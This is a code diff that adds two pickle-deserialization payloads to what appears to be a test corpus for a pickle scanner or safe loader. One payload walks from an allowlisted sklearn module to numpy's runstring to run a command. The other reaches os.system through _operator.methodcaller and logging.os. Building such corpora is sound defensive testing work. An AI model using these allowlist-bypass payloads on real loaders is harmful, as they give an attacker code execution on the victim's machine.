@@ -372,6 +372,23 @@ def build_corpus() -> list[Payload]:
             ),
         ),
         Payload(
+            "dotted walk from an allowlisted module: sklearn.base np.testing runstring",
+            lambda c: proto4(
+                short_unicode("sklearn.base")
+                + short_unicode("np.testing._private.utils.runstring")
+                + b"\x93"
+                + short_unicode(touch(c))
+                + b"}\x86R"
+            ),
+        ),
+        Payload(
+            "_operator.methodcaller on logging.os",
+            lambda c: (
+                call_global("_operator", "methodcaller", text("system"), text(shell(c)))
+                + b"(clogging\nos\ntR."
+            ),
+        ),
+        Payload(
             "module __getattr__ hook",
             lambda c: call_global("sklearn", "__getattr__", text("datasets")) + b".",
             live=False,
